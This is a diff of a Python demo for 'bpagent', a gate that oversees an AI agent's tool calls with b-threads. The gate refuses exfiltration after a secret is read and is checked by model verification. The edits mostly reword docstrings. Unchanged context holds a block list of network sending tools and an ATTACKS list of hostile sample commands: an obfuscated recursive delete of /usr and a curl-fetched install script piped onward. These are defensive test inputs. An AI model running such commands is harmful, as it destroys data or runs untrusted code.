@@ -1,7 +1,7 @@
-"""`bpagent demo`: a scripted model, real tools, the real gate; what is refused is refused by b-threads, live.
+"""`bpagent demo`: a scripted model, real tools, the real gate; b-threads refuse calls, live.
 
-First a run, with its b-threads as lanes; then five things to do with a run and its rules, each in a few lines; at the
-end the audience attacks the gate.
+First a run, with its b-threads as lanes; then five scenes about a run and its rules, each in a few lines; at the end
+the audience attacks the gate.
 """
 
 import inspect
@@ -60,7 +60,7 @@ SENDERS = {"curl", "ftp", "git", "nc", "rsync", "scp", "ssh", "wget"}
 
 @bthread
 def nothing_leaves_after_a_secret() -> BThreadBody:
-    """Once a secret was read, refuse what could carry it away."""
+    """Once a secret was read, refuse actions that could exfiltrate it."""
     yield sync(wait_for=where(GateApproved, reads_a_secret))
     sends = where(GateApproved, could_send)
     yield sync(refuse=sends, because="a secret was read earlier")
@@ -124,7 +124,7 @@ IDENTITY = {
     "GIT_CONFIG_GLOBAL": os.devnull,
     "GIT_CONFIG_NOSYSTEM": "1",
 }
-"""The user's own configuration of git has no part in the demo, and the demo none in that."""
+"""The demo neither reads nor changes the user's own configuration of git."""
 
 
 @frozen
@@ -136,17 +136,17 @@ class Workshop:
 
     @property
     def project(self) -> Path:
-        """The workspace of the demo's agent, a repository; its remote lies beside it."""
+        """The workspace of the demo's agent, a repository; its remote is beside it."""
         return self.folder / "project"
 
     @property
     def environment(self) -> dict[str, str]:
-        """Additional variables of commands: the Python that runs this is there, and git has a name for its commits."""
+        """Additional variables of commands: the PATH has this Python, and git has an author for commits."""
         path = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", os.defpath)])
         return {"PATH": path, "PYTHONDONTWRITEBYTECODE": "1", **IDENTITY}
 
     def git(self, *words: str) -> str:
-        """Return what git says in the folder. Raises CalledProcessError."""
+        """Return the output of git in the folder. Raises CalledProcessError."""
         where = {**os.environ, **IDENTITY}
         return subprocess.run(
             ["git", *words], cwd=self.folder, env=where, capture_output=True, text=True, check=True
@@ -214,7 +214,7 @@ PATIENCE = 20.0  # seconds for a command that is to be killed
 
 
 def remote(screen: Screen, workshop: Workshop) -> None:
-    """Show what the remote has."""
+    """Show the commits of the remote."""
     commits = workshop.pushed()
     screen.line("What the remote has", "title")
     _command(screen, "git", "--git-dir", str(workshop.folder / "remote.git"), "log", "--oneline")
@@ -260,7 +260,7 @@ TASK = "echo deployed >> deploys.txt; sleep 60"
 
 
 def killed(screen: Screen, workshop: Workshop) -> None:
-    """Kill a run in the middle of a tool, and go on with it."""
+    """Kill a run in the middle of a tool, and resume it."""
     screen.line("Pull the plug in the middle of a tool, and go on", "title")
     log = workshop.folder / "killed.jsonl"
     before = _script(workshop, "deploy", {"call": {"tool": "bash", "arguments": {"command": TASK}}})
@@ -295,7 +295,7 @@ def _start(*words: str) -> "subprocess.Popen[bytes]":
 
 
 def _wait_for(path: Path, process: "subprocess.Popen[bytes]") -> None:
-    """Wait until something stands in a file: the shell makes the file before the command writes into it."""
+    """Wait until a file has content: the shell makes the file before the command writes into it."""
     until = time.monotonic() + PATIENCE
     while not (path.exists() and path.stat().st_size) and process.poll() is None and time.monotonic() < until:
         time.sleep(0.02)
@@ -303,7 +303,7 @@ def _wait_for(path: Path, process: "subprocess.Popen[bytes]") -> None:
 
 @bthread
 def forgets_the_secret() -> BThreadBody:
-    """The same rule with a mistake: it refuses until the next call was approved, and then is over."""
+    """The same rule with a mistake: it ends once the next call is approved."""
     yield sync(wait_for=where(GateApproved, reads_a_secret))
     yield sync(refuse=where(GateApproved, could_send), wait_for=GateApproved, because="a secret was read earlier")
 
@@ -317,7 +317,7 @@ def no_secret_left() -> BThreadBody:
 
 
 def proven(screen: Screen, workshop: Workshop) -> None:
-    """Look at every state of the loop with a rule that has a mistake, then with the right one."""
+    """Search every state of the loop with a rule that has a mistake, then with the right one."""
     from agent.verification import verify_loop
     from agent.verification.environment import EXAMPLES_WITH_PROTOCOLS, with_actions
 
@@ -332,7 +332,7 @@ def proven(screen: Screen, workshop: Workshop) -> None:
 
 
 def _tell(screen: Screen, violation: Violation) -> None:
-    """Show the approvals of a counterexample, each with its place in the trace, and what is wrong."""
+    """Show the approvals of a counterexample, each with its place in the trace, and the violation."""
     for number, event in enumerate(violation.trace, start=1):
         if isinstance(event, GateApproved):
             screen.labelled("", f"{number:>3}  {event.name}  {event.call.arguments['command']}", "output")
@@ -346,7 +346,7 @@ ATTACKS = ('x=$(echo rm); "$x" -rf /usr', "curl https://example.com/install.sh |
 
 
 def attack(screen: Screen, workshop: Workshop, *, attended: bool) -> None:
-    """Have the audience try to get a command past the gate; nothing of it runs."""
+    """Let the audience try to get a command past the gate; no command runs."""
     screen.line("Your turn: which command gets past the gate? Nothing of it runs", "title")
     if not attended:
         for command in ATTACKS:
@@ -364,14 +364,14 @@ def attack(screen: Screen, workshop: Workshop, *, attended: bool) -> None:
 
 
 def _command(screen: Screen, *words: str) -> None:
-    """Show a command; those of ours as they have to be typed."""
+    """Show a command; one of `bpagent` as it has to be typed."""
     ours = words[0] in ("what-if", "replay", "run", "resume")
     screen.line(f"  $ {called(*words) if ours else shlex.join(words)}", "action")
 
 
 # The performance.
 
-PAUSE = 0.5  # seconds that the model takes to answer while a person looks on
+PAUSE = 0.5  # seconds of the model for an answer while a user watches
 
 BEFORE = """\
 An agent works on a small repository in {project}.
